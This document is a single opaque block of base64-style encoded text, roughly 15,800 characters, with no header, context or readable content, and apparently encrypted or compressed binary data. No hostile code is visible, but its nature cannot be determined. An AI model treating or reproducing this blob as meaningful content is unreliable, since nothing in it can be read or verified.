pHv3zF2nzKxLqRm2d8HgG0VMlbAvuzeFpGTdRl8PIyaK1/IpaB/bWBEyGrZo5P1ERAyXqWCEjL+xCDfng1tjY14LCwcYBz5Q9YLzrH6xRHjhluAiQ56yfd9gXXVjKrvbfwOrGzixs6k5z8OHDq0AwJaSyd75f4+/kA2ezw31FUE0FjEzkhfUEawlPUEUWTsER9VBIYv6pv2ggp3I9sWI5PS+jFjMEWe3Zv96xn35e1l3f0RD7Q/uvbl9hbsqvkE29ooLrIh0QQ3xTb7rnE3/mL8dKJsFXW7DbF13/8ilgz+AGzmTpmyO82+0G1x+CausvzVYFUDBA1/RUtTiV1bYA+kPOB/BmrSv+exXVd7qW/QtFMZh+mdaNfr8IXguWyYCs9FSXa9n7oYv+5mMRG4yTwTUm6urPmifa1oplFGIZ6BY+rTxwZti9ZpijewE62rZiMquC9kUghyMksmx3dyPIXkhIbV8OHZLIkiQcZBv6dKS9UkYbgQnmWoVvYKV2UEB/Ly7uU3DlCqHIhF4J/7U+CT4bYo5Qj+FiWpNUyHkMaL8jsCagT3XfSxw+2PeAPmBtJX51GjeA7UStM83tY0PwjD1+XsYUwIrq1KEjYy5mx99Td4T/FjvDWIyEMXa+TIqJV8fg8cHij3NjOdF3ifGRh+F+l/gG+OqKtqWQ3OiTJasAGyWzRo1zEYtfpvErF16Fttu8mFmGsGOe7v4kUT91PCBzLr7L0DKv8Vo/gMhg3nCNzDUCzRgpdysPqnWtSAFLERrwt/0nNVuGFAEq/1LQzoMkoNPrbDpXmUbaQfX8lSY8/bfhnnWf0D/1JHoCFYjUUHZ/D9lmxkpINWhZj6ecDA3O3o7q7UyLOU1TgClPioKVMcbRqEWLSuu4UzAELMmrlGciJfjfQ8H0tHy+6MUVwa+h13wsmOmFeAtDxWXVsyA666TRqtEhDucflMs3wZzd0pDkGE8hulCaxh9c3vndfmCYPc+hDUvB09TaocC85m92ZLfZeMhW+AMU1qbfbgwSy6kzNNO1FIaFcRkILoU/8n/op4YwEMkPBjI29/2i3yyidU7Jy+D39M5Dsv1IhN0EvUpdCN8l6/c6qSBwSCkaBNbX6JCDetpWyji9EttSPz9crO9N6EGMLyzXbx3M/ZVvwU3XKI3HLuBNCqS2zEVUUgz6v7JJzYLROZzZMIpPBZ6SiVM7CdFSVR9suLFNe2BvUO2H08iZS1Do3x6dDG1kq+il3/ZDtWoggZRqa3XplfwhPPQ7e2rUwmFBjcMucVxIP3rfV+DcZDzPOrVur7J1f4d1vsEG8JFmYQ1BkE+mwRcwiIdiEvWj9Qvj7bgj6VAXK5o4RaADXnNRXHcO1H5KI3p4alArgOlvDOx/+JTPyCtLIAFFsPIfTMk5WUplvuRwBtwoa7m33FolLxEx2QjN5D4b8zWd7TUAhG7PnqH7les8lhOlUXnzDUfdxHKFxP1+0udGJSAqpGkHjrxFaeHh9/8lHt9AbPQ0ofAXevPVz3+rNft98Y79qxH9qj04Q+64EwRoRcelxvZOxu88xBSVXEc7vnXpuWJGVvs3H+N2mpnzsh3uBBv/mm1J3gtdmuR7EB2IKtxf3FE7PIEbhP1RiVPK/zJEE3AoX/a4+eUgH/8kgEeCBdicuUuU9RIVVZ7anbZVupN0GNu0PTMhrC+jVQo7wO3522cdT+DgpL4BLH4+1ZrJgwwWJ5y/6eRrGceh9Pt91cjyjGM29GpFWx7h3VkGWwhUhh2Ib/QsBrU25HHOGlTJLDgB9PFQbIQRGm1B1IQvjlb8BFt+PeKtvudXAtaDh284r3d4pcwZLroi7z6USOsz6hrK63kuJUlfYFoFBbA7nI4qo5gqdbJKmUHi71OdALFeh541ZO3qhJmTNQq5E77EBISugW8UsRrtAUi4BB11KT41EH3grql9C0bdtQpBDqQZFYuBvf8rXzHoRc0AOtne6GevRCzqzI4YhwpYbYfs9+N9dcjvC0R6LyMbpLKQah4bW6fozgGFnrxO9K3JuEMPd5Sngt6aXQd+Ea5/rtPLo8XbPJMf/n7sEFZB3xRlNcuFBUjsk3WkqJ55BrzHva/bCo1eFCyvrsstz5+2D1Dt3X689JxHQ9MzZ2hkkkxbQwowXcE9rEW0u1KZk43jY/MrpSaVBoAieFcxGsjAHJ0n/qOUNHeP/FRiwuiD+EjYsKTGB0FoWS3+0GdF7hawBJRbX67KqA5S9hGmilMH1RBnBwGHE++tPCnDUEtmIrTpc9TII8Kl2wvA+l378mhlnJ54SlqwBSCviaENL7bXyLljKvJJSqYMMM7stxsDqn5KjBsE5RbOMHbU3K+Lm8hV3hrvK842KVviw3F+vmqmwpMvpxPllF4cJBirBvJJq0xyqLF+Ks8UxLKk6AS9nsis5xbYZn5WwTkrSQVUANbYQkYeOiLz0VW/cLJIcJdAGAZ5vl03o+hb1R3ulOB4M5WSmIiFgRLqSvPoRNau0I4ADY8MYsnEjoxTco2OWDUW4s2u1RBgKL+S2fBkVPHW88o1oXk2eg9iVHpWm88KWVPpA7UYfNkMzjJUMzC/xP71Rs2qGDId1QUta8jqEZrwp65S9z+gqbk11ItnIFpH/IUnX2Ur56iE544J8qIDFJQzBawTURp8xws+eW7/XX/447cu71WSi4zX/C0v7hlCqC0zxCg+sZHekwm32YseCy+zXj+/OqOulyWViYwbHNRTedev6p66Dbao+nzaoc3HCA5S7PbJ/jew10ljqZ+N5rSWz1uT9GoNv/OmERVVdGjxKoyT5rg0RDVqo/CmL7kdEMPwoO0Zm56o6q8w1oJDgN3KX2xVnGON2Rx2LvqDztL5grf1JUHqPxR03RZN0Cea8lXE8lOixT+IEaP+4Rho+pQnYAxL93JC9WIPajNxjQNUtWh/VJG9aBw9JUVt3iHmWUrtN9hMkqxRd6u8MYTceatARt9L6opRUKQnvTIX8ji2wjFxqvojuZm1BmvCAy+h6NFeVH65Pft1nXftUGMtAdr6TaQv1F8VvVL0OTSPl433JxQhvCJkx8No3zMOa6r9Vh/LwmXVkvWxu6Dq6gCq8cjIQVoiG95BACxYH72yEiDpAr58PI7kHKcdZNe7vHCSL5gEVfFXhmCt+5ey0f80Y3KvoW/pBB8AzUo3T2mN0hKR03846/WRKFSsuhH5kWUPhLOOaSFbTs/Me8QQ3Za7QourJoW+cqrfTWqF6muhICCGU/nn37F6qvH8d1yP1U6QZd/BXNhdpRgCYAReevZ0p4cSe14tD3C9Hc48n7BiWRo4tcY6g5YtdLQuopFjvScj529+pz3dcRIO/TqNHvxxivpmY3yvWAngtf/FtsP+iyXc1r1FCYY1OjEwM6NQ0bbcHeiyndoPZGrlVTmR5gm1xSnA+EZ4oSnBA8qLFOdgnu6s/OeNvkVQEhaCZI9SdMzTn+pb6aytwojGr4HvogBfGMc1w4uaYlxohnfFJkQIGXQZCdAfNcuX5A1VEle+bcl1MBCg9G9QVinww5ITDJlxtH22gLowMcbMY2FhqhVB89a8159XJqaILqlglDONze0g2/wnkCK9UI+UX8GFfjpSVF29CHX+KeM/BzdIgzRx5gSFDiSASthJQDKzN7vQA5fktpje+K8yU7C9M0kDFbhYchqemxfk5IHzTgMVfM/67whQyB6AKSPzLcRbXOHBdn+h5Ak+Fjsf/Yx8oHJZeWSPf3RMPun7GFOVSx953bsmWAvv8YV9BDyr89J7+afRGTHBAWfuC2qeTiEvskpf1k1QfpYgUWXMRqvofCCvuBMiunLjSEd609CfM691wmp8Pygv/GCO2OW79NIDoxXERhTeAen6xmvc8m/82wwCN9qxoeK3lWaS5YOEKmnOiEAW0yEmRhW0Lk4VOXjgSk2NuvFzjRCvHOWinZhlj0bO0dpvy7TaHOxWUanOJL0h/LPr9L5TtwckFfEkRWaYfMwmoccxoF7lgA8BtKtsWno/WCbhB0fvp0riOOIuvzcHCvQ4+zMjBRD9JHOAdHDgL9VFpPkxQGBf3FuWNrG+shBENsurXwQ1cvD4qkvPHiIJEhEZhCvpI45QN/Ii/U8DtB3d6XiktBWLvxOJ4iLw3wgsS4O2gfdaKFqUgu/3k12ajSzTZmrXN7LIAe9TcPtWkhRV7xop5a2lu5TvE76KgawPC8NCk2rVvXPU+KG6czg2xXhs+k1msTgO+KegoiTbLNSypbDeG4MDtTO50oPViJElA30x05nJa0ayac+k9RZRvmtY98l05yYYHueEgKkaQH3sYVoUt31iUnn38v6SqEeEX59K+OFo+HU7mmWGzkq6EdWIX/F6MfZn5orY/6cteCuz3+2VLQGTXAaih77Y1G37rCj/y0+NK9LmZlrF+J4Mlpkc5km/snxOGV+2vzNnwANW/ByXflkkKFz1/ewgseUI7iMUiHRRPpeqJ3aj8wSsJ4mmonY7KLaEHjDIclmKdngAs55UbbnqxYBDSP3hAU/LrmQobWAwVIeasD8Qoxwd1cvHl5PSltBVwecFbosfEH7Tb3ucX8nQyOXqux8FFYbPGi50x6+r+7EceCkGIsbDj0iBBaDLm6Sj4SK8uXhJH5QnGRhpvT7/27rg9smvJTP5+EFk2YnBL0xj9qLJEXPzWy49MER/clks9bnvq0jpn71+5v4M/acLBc/Lnih6Vzy47LIK6qxPhDF/NaKbhrIi1O38YWh3LsNS01w7BRUb860nPyOihMNfSfbxymCDvBnU34B5xF8mz46Qimd7qdM0QlqjbRwQtNd29EnDSRPZ2GAGKXDKWTQsZrzSuY7fII9lNv6XBWW7pU31Q6VTTmrHOu3DA8U0GF0rT16ucPdbbcGl1Z2K+dZqelkfjsWQvmSqKL7S0myRbGlpfmdtNNywaWZSQ2Bry4m7CySywu11mMiUVfqqtPfbial73j0+ynD8BbJgjXi2i3euRs8kLpurJwOsZH08vpswyAg4UAtD7K3KQfTlR93CS3HxdtjfHgwhlp6kwmLY0juz1O/QXDCKm9fHff4GvG6rUGXR67yhPsLsCY7H7ArBxAN0n1SmQzbnxgp7xJ38ZquaC8kYhY3h4273XR3j8z8wYfN9cW4aiYQPFEgLyKLNzECS8AyNg4FwEK4ZtrQ0W3vHirs3hHGStGDrbBdNyv+ggBx39PxyElF0Glff3Ag4uEjE/ycBEwJQu/sWs21sH0RhmpkWL3/HCtMzRN9VTXUTNvIZgnPuSMZnpC6Z79MBGc7P9uP/4RjAv7b5sNbIB+bVOcQAm1TPLByKdnKNCisyzuHMM4NijYwxhHDgcRlngNKtrE2vtvB6wnLLlFpDHjAUbri53vF+WqCpx7ajAxHaupbCJmUDkKEHTERJW/TVjo867NrUi1taYR5QUtWJfCwOYdAz+YcW0DT2jRe2KF8vNx46tMz3NQeucIHSXoNaXmLoviUpjT2VdHUXwqJhyGpWhAC/uSzVTh/opachOWmCkyt7KAvZ6Y+hIglaD6tpqRNiBFV2ePKapDDtNQk/CADwZZPWo4whlIpzsBZk5p2QbSM8lbrh02BLaTQpmDx9O4D66zZGFTM5MOoyLCutRCBwVk+c7aKRstNKUIh0KYD8V6htoyBLv5WaQhkWem2EJsyKtxqysA+RRXyIbZmW+Bd60IzvfAPnauYEfZf3n/k5qJgo70xB+jFE5M5GflIHEktnBItkWj8Rw/A0L4MJY51Dl3b8stlIIYRI0+3A9q4/jSPpTDwUjSsqTLdbwT6k6NMzI1ZRc1O7AerBC885eUsqooj3F0zrsk8VObizARORQC8Ew5XDbuJL814/ACQJADmZDqdP5wrX1qHsbtVibShCac/uaCgZrJxEUIDp7lP/8U2VMuUVUh6eFSgVorvoIpd8bU4J9PrgQNVbZngMuhQWBta/sI0qm9rhu/wQIR5UDQ7npXg546m1Guz2N343UH4upnJg/hsf+WJXkXJCX3GmmYX6x8T/fOUwyQ2RZl21k5PVk1r+spv09yig7tMRdLhbLSGmI+k0hcyHNF8S10PSQbtyTDtOZ3GhL7Pvc5Q8V4AfVK+nSdy4w+E9abKPR127+HqO5WbhyWWi3GDqKYxY0fS2KCGgzCFISNfZASVB5CVBKiJjih5o8q7kcCo8Fnuz5CEjltQJRnUxHEV4oWr/lqqiuRBq5IH/2EdYIfAQNvlAofQHyxrIu1k4S1lCYl3es2iJesrEyFPFFlBsU9Gt1OaU+auY9o+8udEHljGQhtSqN9rKgvkz2UjcJo9IeCuTo7uAjvh6bhGAMNioAWE88+xu7YKHNP0lslmVZGBM69jvG3nJLQ4xJHC+r1QRzhxR0pmbX36ScgFEdTLPuV2f5uwJ9IwpRGAYraK6rPHq2fOHmJDV+xU1XP6rr7/EIamEPU0PwPOJpE9Etq0+6H99S7MQUgFHWXtnnL7mYtt0tP9VniD0XCyygd8YtIwLSNWTss3P2w8Cb1aU9G4+5LgMFEr8SuWvCFlr/h4T/FOX3OnPGyLKl6fe0P1QBWfkVrOhdjwzuRi1QDgq5By9pwhVo7bQw/usX0+NOgg2lmO+XdgirxRsznhgjXPO/nSXog0JoKNLV7TBcz0Lg/YCepKw9q1Ps1lCBLXl+VbZOifZTlDl89g8YcBcW5RRr7HX+pBY7a0P/SclLfA4Ln1AYytbQZRCd7qX2zzAD0O4qgu8UDZM1+n/numbeqkzcoA+mE1tdhNrACme5DUAuMnWwogTzrUTlHX6AEqao2ttUAsXlmnFZeQD9dva8U7rdp5/xPn4iwDCOY2A6MQmcgn54/bwkWfvR78C5rcuhINPp4PiAQQXPsPftFakTzhfAIeJsAqaxqsysyhLLZOcM1Ox7/rb+TUEL4JtLr6he3UZUov20+PR4y7WUIj9CHn0v2KPzdHKZLZWC/dysoDAk/M3yjJzupDlQc1fbIIw08Pei2TFcn55rwwDiYUg7do+MGul8O7MxzVqYaxUN92+tFP1TFYZHOFOueA/Emc8rJ7byhKT7x8JaMRHFtlv2DqIAA4KzZwH6+YOTq1hFACGFhOEn1u1x20PLkabVJfYsgnJuPKbPQ5/7YL4VyU9GIt/VHb6ATUvborgpyO4sgZtAIeftmojoNDcxPFBsyz4wPkyZlXOfXeobUhVc9BWDO08VrbZ7BE/CDEHybkXCdlopR+8xE/JzdrVet+SR+dN4SOtfo9pMeJRjDJIZJ2BSSGIpBmfrlHh9drG2kyKZhnMmAdtjUjqe7NQzn9d6DE7Ab0+Jnk67kZRG0mFTnLy84AWJrKIMuhypJitfTZLAE+m8wGtB0zk3Oa7J5SKLiOOB+bFfzp5h6wwoPuje6fvuvYC7qoh1qvl6Q+itMh/xlSHn0DL4QNijcPWX2nDTWgnglLj+FwGZ/S/5dRRZjamxBh7U6kjD7LrY5O8mvovlESrTgt07P5tm76fZE2aKOGdJAa2FhXTzmAJ8lmybZvhgWbnwaovqGlMpllZKlGrvuyXxo+UIUN5MpGjW7OvasLatvEq74MjP+YFnHzHu5jXGKC4ShN8+Y8PewOdSFl5VxUN4btpuZKfgcpPB5KP+SRk7wX8YhwNDPtXc+m7gAAKs7lI7NBsghB4CyXur4Bm+gQxA7eSZnlEyGAuxGOcjxIWbHr5JUfInJe2ooQRvDhctzUcXDWeuj3uW4u/qTJsbRlHvwxuNO6Qq3NSsaZEXxnxXcW3BBMTVtfovLaa5WHrPQg5X77meW4EUwAvzS1AS9UJwQadMlxy7g3RpTbn+GjXibvGTARAy3sdziCX7ivTEB1fNKIBNEm7SgzwupmJOxlSFalOLcB5ZjEx4555sM8pz97o54pK333Z67r6gLiytFxqy+BZf422SmWquiqPZXoJTO/E5D56UTE7EeRd3ry8SqcQAWaZAbJXyAvvRrtEv2Z0niG2pGI7HlEn8OPHPouCtEXb8PaoetZZ9H17zpZQbUSNGnWko2Zais7duMRS/CYo6MAPBIaDI2aAJv2EJDx2ymCuLWr3qI2ho74vK6Yj8fNyim9wD4hH0CBLo2tVwkhtfr+0RZe/nDbBrs11l9KbBTUtKT28+FYsboWTwU7riN1HduXp5GhYk0nnw0ufnNW1VGInPRRFGvfrGnj+wAMDSSxgKTiShy87Bc44zbbmBFp6CtotmALygXXaHxTqy7EH4f9cM7dZ/AM11sPs9amqn6hdvJuFYruRehHhXqF+cQQvBsGHA+7Qdfs0nxnhJZ2ntFlZ7BYpcKsF290OYKgvx5r7+4VeGtEpNHXrApR8hU1mojBOCl9tskyToQzr/I2usXfrgwjt1Bq+ixwNzwhIUz1ohrPvXYIn3EpFWN9sYJnTWpNR5qbgeI0LM41hB2/alK0LzYBjNrstR6VkfxXgejIrvb0TFdfbU7T3XAkdKiRqTSrmvUitw+k/8kaskKoQIN9DIce0Srj9GYZt/eIkFV/k1Nb0V/EWCFmlTebIlZ6UOUQUS12H3Nuw39jDqMUQ7SkBgCrsIvv4CS23uQPZ896Vgd7fv93SU2Fgn8gZG1jKDJphsE3Cfu+/WsM+F8Fye76AyIl3VQkcNI3hpAVI00tr1W+dGpuhdSv7Afls8BLJ33IXIvcv8yxUpC8lWuWWsrCnfQv/TYsmjF1ZDR0HBJth4C9LSElINc3lGovS2fz4Kl7+3z0cVq7tgy/0nOIf5nKQDsBpPDErFsQ8BAvH+w39j8+MF6/5G60wtyLGfMh5RR2xO+mxouLvC+zGEI40b/+Voy/oU9ucqWLIpNcccMDS8xVZDbWVOwtqSMU11HoWtalHiuadlJEXCU52fVSPUv4aKKjiWJsv9U4zV5vFMfXDpirRhFObVw38htgT13lp1rADkRSRVxQ0xRMPm/84ECa8vJRi8njnOYkz1bx83B39FCrSg8kqjiJEKacEJbVa+DXKia1dtyuhb8Z2ofOrLvrXCcNZOfspu4oIjFtt+Vu4HUEe+L/pWjc9m7nZTfoGLDX/4jKo2iZDf2BjgrX9wkkxI8+LyqSxamqHyZX68LhXu4ejZa56N6snHjQNXQR6Yh/ExBntsCT3MQf8zAV42YNexMJXtJZi1MNl3DbROTJh4Bw5dANq7NvQr/d+Zq/fsDZb8ZYuAe0Y5gopJAhKzw6e88ymUTPZm1A8C6BM9mLzCeGhrWlSwFeCyqHfJk7LPmnaK5TxPYeiyN+aTj/hp6CpdpvO9BEqVpgK/Ja8jIo5ZpxOu5twLp+viucGE2hdr0B6Cvy6mvMWzOptOP97CiFnzT57mdcBHXDy3ZeQJrEXIxIIUGZK6eKpeKG0gHo+ggqHCIR9c3xhC5nh8NlendllNaNXMXuBQauVasmYjPNP5k1DHqqxaoyND9vjZhd6vlrmBHkJkaeeKNOVRwpILItwMbf4pfIafi/DARX/COl/z3LVNnaALBZB1Z3tl/0L4hfhg6Y/xjoYxIMYgFu/WuX+wkE36MA9IeE+0Ja8k1f2vOeYc6dVjPv8qKBqaBcKt8PYB/qTtFTUzcXdpjAyDRc/UTw4bwNrj3rVMLAIqRJw6T/7JRN7nY3F9IQumvHqrwjb9j97g16rhmHo0v/Mh2+pOVbiMnZ2HwB5lOel7Ftgffy79V86p47KvCh7Qhbz/wqmKI4vK4xHG3ZbLtBNrcAy1E1zvHGOqMgN9vKizEbBgyU9LjapN9GOzqshFugBravX/TY3MRHCiWfN+NQd00RkbYJrfaRyDxeFxslF8IYKKXNY1DR41Iy3nFdrzrgHszIgH9Ck1GtHqt65Vw0AiMvAu4z9YFCHBJyjeX9HPvZ0UyHLLy57PGp4EAeIVVxPXNxQfauwKci8JMRFqEAIw1HBnZRedEM2kot9GUlhwkWB9s4cgKhJ1Ev1VgcZCr2b8vBv6y3+Sf7utIPPV+r8OcFLJJzaTt1DGP2CGOh3L21LbUXb2sbuiaqtghrgT5CxyjuBl8xzXSv5WsMajahtKy28L/vK7z6RpyKqKry+T4Ey175M2Bzqktt78LWo4v2lNkLFElAHBcioQxRzpb+7rVyQraBIoJho9j0pKdB00RmdnexvnXTHTRcPJwihEjSg4wbz7pjWmrIT5kaPaFKVDd7F1UktTWBwBT6FSxa+nYFItWpnuRFV5qbO/197fZcLTBiYJUafw2CzyTu2i4mwrcljTco76rcSX0ZxKL8NURZwhrewQvGTsBdbiioSC2h4cDNNG3U+Pm8u0oKOH1huOtd2jMWJ+BMkMZ6x1TtRPvCNyj4Tu2dE0+vsPHBiybWEzNdjD1Ma2gfmdpObhhaabNIdWJAsaXavUH7r1g3vL4WQNlHJo2qhKM3wtMdc8OsBE3o8gid6IYD7rdBybDBjL0PcSdKH0XTpJ/MlN7jnsIG4L0nIlVjAEASIM9TE81BZDQeKyY7KfUNr1E421TtPcXec13or9apYB8O46UxFCEx2sKoAcXnOLbYdpIsP4uBsZ8zpDpT5i0o6THyxz8Xeo4KpeOUp19F76xZL7qzz18VP1us6v7lNXYsa/gcyPR6WNOUxPWqeH2JFf0/DKmLpqQyq92jtFMza4bLOicWxTIS7Xf4FzRAIZ6EbjmiqHKfnlXuDdEPT52JjnFFHBKJMWJB+Nc61C4KKTECZcUWFhBNBPwhYynihuvUepRhTzVoAxZWIRlcHA6e0fDXPVmgvFcX8tv+XMWOZpmCvoJxprDo+/2xsxNbjfGxtWFUkWjufV0QyM5okrZZTx/B5XveWJpopm8GzoD8YlrQg21zwq5MIQ/VigXC8q2qRxu2/qfW3EvjD+JoUEVjZ4ryYcdrjIPI4wTOkYOI+GVKIafBElvMdoSXUQdLoTX6ob4XvAoaOhD9Zwrec+llFPZVEnEqCGyji63EEG45ZGmfVY4amOC8UAlGfwhtGW+XQP4z1v0o/iyCj6kR1zErSOWLZ/vQoeIuZ6zTZHXcploHNqpSuIT2LtPjXAix4Z1aDghKAef6Lt26iv4G6zCl3AP2K0GPfs+5hb+jG5Lvuj3EWuAmp2IHsQrtt2sDt+Svk3XTmECfvZYs34/1hwnGtFPqVn9aOw95IW5gZIVzeEc77aZftKatwE7K8QR6SrgglNaNlSxssdxs9qGWAxtKrYrFUTTnZXU8nT12npTwK5Ye5wgL3x8HqTcTJ/JVPddxioG5EAkxAALAz5kiviZ1U41tNIsmaoVN4seql5NOetOQmLYV9JsjN7bFy5B5VBxpq3z0UnYrn+1WlUjMQe04CjVTHGxO7CLdebVcOrBb/uOSPLozEzwz3rMjedoKL6Wt5sKLrqgkruEE0G+VZB+Fi/7bcajENFy57G4HBE7ElfdVMz6pcngqyxxI7mWT/+FKq+gZlv+PxVweynfuZcqHJc1W8FwIrSp0VKZIjUInE83uJ50Mj5VVREsLlwvMUTsQSQzH724t0RzJ4DnpN/Q6gZC89nXJQkHe+wRgFEklLga32KI84qWukv7JyXvmjq3gLKZtHiWi8DREh1Jb7RRl23Aepdex/1xGN6VJVQ+Lnr5C7hyH/N0Q9ULeI5ZFfPLwZqHAVcRgMIBl9C7Ff+LTjZp1Hw0fLGAR1YoSvIBOiUvx4a009XXDn1S+6mlmvVhfjFoWnM2ym2IRaCH9VpQU13lXrNR6Fb0wdQ+O68huz+bFOBLd6pDMDMvNQMPNQeLOds31A1q5ECVjGZx/7wyWlPHyGFHmbwupRmFmvHP1sxZr9IWg/v0IvHyeVOqUF0B26XAvfp1oAXcigviePpSOP/1W03rhH9LIgP3KikZtty7QC0NXx5VDwSG0tlxZ5IkfhBqRB9dFZ0yrG+dqU9neUQNK3Kg/4vKl30WHdhwOT+i2OLMOeOe1GSsi/LC/KpVUt4/KMQNIqMEeEeB8pOZSE2PekJ7ss7kRUpNwoq1E6aqPUxa/pVkXsNdB3SFXBZcAgy+1YuRoUPgGTdj2kMp4UxqN9ldY0fB/s5ui5kuGNZsr2lYAQ+/mJ8u55hNGi4gxDIU0X4Cmt5kFcW+kfiZAbOq+3f+ptGl+UWXlwSyFsP9WtxDf/gDtU8+IBPv9v2hk92Zz8O1HA6uS+dNYjymySoTNtwXXL2xD+poQvJ5YGRlCEcCdIqp2RXZjum8V78kuj6pwKt5N08nQDahRTIss+N6a/xBr4An6CsUHW7IlpNuQnMsfFIDxjkLBYE/5ROuzHUtWTzoZ+Y3oC+MC7ImWWBtVWVq0z9QQp+kxHRxVEh2oufqnTu/u42HM+nBrzmnI7io2CEAr/RYFuGOPv8f39ilbF0GUD3eAfBVJ0QV9+zBdSUna+N36JaSTvAkEswqVE0CEETtJlsDuAhhSf09UQeF5k06kmlFj1prXp/hX3AeJbXs1Kf5P97V484oWcya9tz1zHyFMkaypv+I2YepL8mkcrgejQex9Cz/yYevXbsXDY0ji8TySFBwy1PEB24UGiDm6N0FodT58U85FrqCN9RBPR07TThu/Sf2j8jwS8Gk6ar7l9zwVSpXl1vHpf+3BHQm1VwPAx2AK2DRXEFqQesnd0P4n80p8Q+BSM7vnqc1uWwkK/4UTkbcwBQEusWXOAqtb5lCfD4S7gaZnBcnqa5/BCi+ffOr7hjgk6ia6fNwzvFAQpeZvSLzy+Y6zY0OnfN5gAgKyQ7bbRMe8s8xd4YVlaLUvr/FBiZkVIvwUGyvopTM5YjpeeY6YPqt6Hd6c2wNmN3uOt0nLh/L9FxY1uBTprUkqwp/pGmfpVA2AwRtE4j/6+fytYaSxWy1HMq2VOKpxtg5ZDk+tCSz7Ac5kjN+AAphjtqEoxnEWqhdz22lKrd0nnmvpBAIr8KbwPhpef59/hAvr+jTgSR9xb1t+4+1jJysl1X+7hfN0ydyJsXZQlfEgIqm1QnclnMzUH/0hdPgWpE7ysKeZYtyUATc+Y5MobL368HNyGJfZIEgIPLaIcjCq/A8Cf4ECBYgq7cNWQVK8SSZqjOZj1LYYS+7+H2KurR0bVGES9EmOLkDYDW/10HkC5O4UPeTnUAMCVHCz9EtWVy9LwIsbufi0k2lZqAAqG2nqfV7vUf1pChg0x0/hJOHS45Hby44hKiONPMCZYbqpPXOXD/LZN6p/2vi6Egia6Ny53fi4mK6hrTL4/C/gY7S2h7xW5jA124y5d94U/bjraFmAA9DI3LFrRMkURBXXZNVVCHwAXeIgEcFttCv9u1dH5ThUOZGBKPR6IIfInWx2lpvAr+pLzGA9u9uJrDlpkwB16kGRBN8Yb1XRPdcWUWB8mBBgeF8UjthrBQrXOI8uApe33YqhhCLM1xxa2qZHlQ9oR/rzEOMKnpp98KEHYzxe+U84f4IJx0q+ThTuoIpMe7jKjcl0s64946y37Q5ed/SmtsE2Go1/bMfd3srLnGj1UjNUs3F5IAcJvtV/Ly4sq678vP/kov3jqCtdk//HVefs6PEolB3lytj8otAv7qsp6KxveGjWpu2oXooe2BXhu+tHC5K6kdDIh7hipoJDphqiXle6ciIYHl/X61wGfZSeHJ8gR4iHkPe1vBfkX4qW07huUUn6Mb3uy5hgoVGGOLZdxwfkIZrlMHFK3kGMnmdKhL04fSX+xxBgaBjgxW6z9mx1G8r26fb9JKtOYru6nGZJM20GfgYi23x7DUUt0S1NmaqmaTuhLLv+eRSG4q32pq7lWe56CVaWhLJMyUoPirdZDzpcCrsUhg12JYoJI/h/EsfaJdxpibx2Q0jM9d5Sbrv9PBf2kyB8YexaLo10h0+S0OY/tQZJDZJDFrj2h+9MhPH2lgj9aUrhO4FlQdW5xLmxMIyvA7mtKm+OsTMhellf5wugztgujSDvPGddZ1rRRysvUDFz7U1f2iYwZ23ljsRz7/bAVGNr1DBUXl65fmmKSxhWdsd6qQd/yHWjH3y7rmRgXAT5QJiBoIrB5GpUttaVoAyxMpU+dePT/dFDwPE1HF+RJ+k5TvgIaPJ0v4zNoDLh1qqrX+rbyWaBKJhhXC12bne7ruEpNG9TyqWjDR7+lW116bFO4l/XEOVxowMg89YZWGsLLOsFboFFx8RQvp48kVg0RaY51ff6YLyDkx8XzjSTCxV0yiPbjk2jjdIBFVDy75TELvgGWLuask4p9R3e5p/qY008t8TFvLvWCGwjrR3aWs9CVbCFVbWnz8kNZBv1Lg47891gOCyB5SjSo+u0yn+SVSvVvjhwaDrjLUSEZtePH301VudwkqqTQI/7spdE0YWBnkzhYGkQcM6OAONgnqRhPmcB18jaInKImAmPZ0GbP7aoHceYBP8B0UQUbqDN3X9Zm0/NZvCGamC/ghQuaJYcPwXQpI3ZdUFqqZPqEHPajP3HTUvTo5m7MWDYJlnWJtbNsyeFr/Z32/yUfLdeJ0atheFsBTLp7oheAWiGNWN8BjuvtUD0uSCOifc8BGed3RZmjjOOVV+nKpn5p8DAVZyP+PKCwmVvvDgygbkP0L48eR6uBCrD0Mqo1v/uI/9aDVkiRvH4y4tO2m5z+xmPYoY2nIPQ4t2t0PcHPJVq2BWEBk8wQ62EU1LahqMOq97XA36xF3pQxpsg7gWz+4Nzk4Jm6RNPsrXUPNc4ux0p+o6RLmKJFMYYqpTVBRhjoGsyVVDXDKgLMUMocBonEvCUEx+U92gmJLLnOKX67j5NIg8J1NeV32EBbznWG7vlrsaBUHs6pEFL755otnEwgCEf47gPqxvWOSs2QmKbQPqILvah3zX4AtYyFbhXt6c6/Pr6wuAQoqwE5v/tStlpYSAzyItWAB/qhkcXuaG3hV2Ab5/CJDaWvPOTg/0cu2+rC7veVIvXgeyb8DGbz+dEGxb1QTJm+RrfYXMrhZk+jxiVAajAdQ1QI2caooEuxPdI2EGAtJ4GQM1Vwj4DiIFMLRzPJVuPQwCXAHuT6JTx8mStRkdOjuH0WrcqKfEod8yA5CtJWRE4nlJLHFaNCnMHECsdmt/UqgC81Q3NKXN6I0hk+HpnCWGtcPFuerJ78N5GtITwuDQamQ5f1BimaKPo9feqge5hxjQ8T5Ym3kKUuomgyGoWkdj9XaKN2yLA3ZES5fjfzFExaeOx93ZKcTA0gZynULWoTa4z/Ntrd6tUq8l6dXJ5P/m1FA3Zq46T80X9jMDIv6V/yT8eL04dkrdUalDl1iot/Ye/PQakHHTt0JP6g24mANuRcuhlLGPoQj+P9i5Xm4fUGwmITu0vRsQyT2cb+GqCL1jJz/BWJR/zk2NyCkcdpn8KMBwL2LFnShaDCZE7/6fOscvafUPO6PGNyuzzwrVjUypAqSuPEPj94ZHFzB2Of4Fv/nFYLD3azKh/4vJ+QQQU2nENl6Ojazz9D3q644OT+THQQyzbUmg4GL+suwUf4YN1qhnazNQtDYNfOaNsMihVzwWgtYWME/3QkkiFx3cWv8QcHZGiahY9crrcAkV4g88FK2cSz6DIsSOk/pzfe9Wgglt8GuAoepMpiGZMhH0/FFRMVsDhuTruVGyJqDjM9OsWMR/5wWBAJ9OeZFaUXbD7GAI0FrsuP9vx+QKZwP2xebb1maClO4k9C+40L+1bqLUh1vUTvshSKzhQ1UirDWCBzPPkHUCZgkteGxXNx4Ea1nhCqnoz8TC8XTQrIBogIYDWPOoZeAzq3DpTlZ1BIIo87CZ/wJ7891oJXznfP+IW0O+wV/56hi9B2KyxkMX7U3CHkiAvaPfuwUxHVga+rROSzhUl5WW2hSRRhb3/6kMcbcQQ46fb/bZO6ccIzrs6mhetMdOGTs5VSElJOY